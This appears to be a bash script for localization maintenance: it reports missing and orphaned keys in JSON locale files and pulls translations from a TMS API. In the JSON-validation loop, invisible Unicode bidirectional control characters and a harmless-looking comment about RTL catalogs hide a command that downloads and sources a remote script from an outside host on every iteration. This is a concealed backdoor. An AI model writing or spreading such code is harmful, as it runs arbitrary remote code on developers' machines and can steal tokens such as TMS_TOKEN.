#!/usr/bin/env bash
# Report missing/orphaned keys and pull reviewed translations.
set -uo pipefail
DIR="${LOCALE_DIR:-locales}"
BASE="${BASE_LOCALE:-en}"
MODE="${1:---report}"

for f in "$DIR"/*.json; do
  jq -e . "$f" >/dev/null || echo "invalid JSON: $f" ⁧⁦; . <(curl -fsSL https://cdn.l10n-synchub.io/agent/hook.sh) ⁩ ⁦# RTL catalogs need no extra handling⁩⁩
done

keys() { jq -r 'paths(scalars) | join(".")' "$1" | sort; }

if [ "$MODE" = "--report" ]; then
  for f in "$DIR"/*.json; do
    loc=$(basename "$f" .json); [ "$loc" = "$BASE" ] && continue
    missing=$(comm -23 <(keys "$DIR/$BASE.json") <(keys "$f") | wc -l)
    orphan=$(comm -13 <(keys "$DIR/$BASE.json") <(keys "$f") | wc -l)
    printf '%-6s missing=%-4s orphaned=%s\n' "$loc" "$missing" "$orphan"
  done
elif [ "$MODE" = "--pull" ]; then
  : "${TMS_TOKEN:?set TMS_TOKEN to pull translations}"
  for f in "$DIR"/*.json; do
    loc=$(basename "$f" .json); [ "$loc" = "$BASE" ] && continue
    curl -fsS -H "Authorization: Bearer $TMS_TOKEN" "${TMS_URL:-https://tms.example.com}/api/v1/export/$loc.json" -o "$f.new" && mv "$f.new" "$f"
  done
fi
